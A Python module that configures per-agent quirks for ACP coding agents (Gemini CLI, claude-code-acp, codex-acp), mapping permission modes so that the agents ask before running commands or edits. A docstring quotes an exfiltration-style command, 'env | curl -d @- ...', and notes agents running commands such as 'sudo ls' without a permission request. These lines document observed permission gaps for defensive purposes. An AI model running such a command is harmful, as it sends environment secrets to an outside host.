"""Per-agent deviations from the ACP protocol, as data.

ACP agents differ in what they get wrong or leave out. Rather than subclass the
codec per agent, each registry entry carries an :class:`AcpQuirks`; the codec
and the body read the knobs. The defaults are the protocol as written.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from types import MappingProxyType


@dataclass(frozen=True, slots=True)
class AcpQuirks:
    """What an agent needs beyond the protocol as written.

    ``load_session`` False means never call ``session/load`` even when the agent
    advertises it. ``read_text_file``
    controls the ``fs.readTextFile`` client capability; ``missing_file_as_empty``
    answers a read of a missing file with ``""`` instead of an error (Gemini
    fails to create new files otherwise). ``mode_update_prefix`` marks an
    ``agent_message_chunk`` that is really a mode change. ``tool_id_separator``
    splits the native tool name off the front of a ``toolCallId``.
    ``model_flag`` is the command-line flag that picks the model at spawn.
    ``mode_aliases`` maps Chorus permission modes to the agent's mode ids.
    ``own_tool_prefix`` marks the agent's own tools that it offers through an
    internal MCP server (claude-code-acp's ``mcp__acp__Read``): the rest of the name
    is the tool, so the policy sees a read or a write, not an MCP call.
    ``mode_notices`` says, per Chorus mode, why the agent runs in another mode than
    its own of that name (a ``policy`` notice when the mode is set).
    ``mode_args`` holds, per Chorus mode, the arguments that make the agent hold that
    mode itself from its start, where none of its own modes does (codex-acp: ask for
    every command and edit): such a mode is never set with ``session/set_mode``.
    """

    load_session: bool = True
    read_text_file: bool = True
    write_text_file: bool = True
    missing_file_as_empty: bool = False
    mode_update_prefix: str | None = None
    tool_id_separator: str | None = None
    model_flag: str | None = None
    mode_aliases: Mapping[str, str] = field(default_factory=lambda: MappingProxyType({}))
    own_tool_prefix: str | None = None
    mode_notices: Mapping[str, str] = field(default_factory=lambda: MappingProxyType({}))
    mode_args: Mapping[str, tuple[str, ...]] = field(default_factory=lambda: MappingProxyType({}))


GEMINI_QUIRKS = AcpQuirks(
    missing_file_as_empty=True,
    mode_update_prefix="[MODE_UPDATE] ",
    tool_id_separator="__",
    model_flag="--model",
    mode_aliases=MappingProxyType({"acceptEdits": "autoEdit", "bypassPermissions": "yolo"}),
)
"""Gemini CLI 0.61 as observed (AGENT_CLIS.md 3.4, 3.7 item 9)."""

CLAUDE_CODE_ACP_QUIRKS = AcpQuirks(
    own_tool_prefix="mcp__acp__",
    mode_aliases=MappingProxyType({"plan": "default"}),
    mode_notices=MappingProxyType(
        {
            "plan": "plan mode is held by the Chorus policy: the agent runs in its "
            "default mode, where it asks before every shell command and write (its own "
            "plan mode runs shell commands without asking)"
        }
    ),
)
"""claude-code-acp 0.16: with the client's file system it drops Claude's Read, Write
and Edit for ``mcp__acp__Read``/``Write``/``Edit``, served by ``fs/*`` requests. Its
``plan`` mode ran ``echo x > f`` and ``sudo ls`` without a permission request
(observed with 0.16.2), so Chorus's plan mode uses its ``default`` mode."""


def _codex_asks(sandbox: str) -> tuple[str, ...]:
    """Codex config for "ask before every command and edit it does not know as
    safe" (the ``codex`` body's own mapping of these modes, ``MODE_POLICIES``)."""
    return ("-c", 'approval_policy="untrusted"', "-c", f'sandbox_mode="{sandbox}"')


CODEX_ACP_QUIRKS = AcpQuirks(
    mode_aliases=MappingProxyType({"bypassPermissions": "full-access"}),
    mode_args=MappingProxyType(
        {
            "default": _codex_asks("workspace-write"),
            "acceptEdits": _codex_asks("workspace-write"),
            "plan": _codex_asks("read-only"),
        }
    ),
)
"""codex-acp 0.16 offers the modes ``read-only`` (its default), ``auto`` and
``full-access``, and none asks before a command: ``read-only`` and ``auto`` run any
command in Codex's own sandbox unasked (``read-only``: a write fails, "Read-only file
system"; ``env | curl -d @- ...`` ran), ``full-access`` runs everything. So Chorus's
asking modes start it with Codex's ``untrusted`` approval policy (every command
Codex does not know as safe, and every edit, is a permission request: Chorus's
policy decides; an approved one runs), and ``bypassPermissions`` is ``full-access``.
Once in ``full-access`` it cannot ask again (no mode of its own does)."""
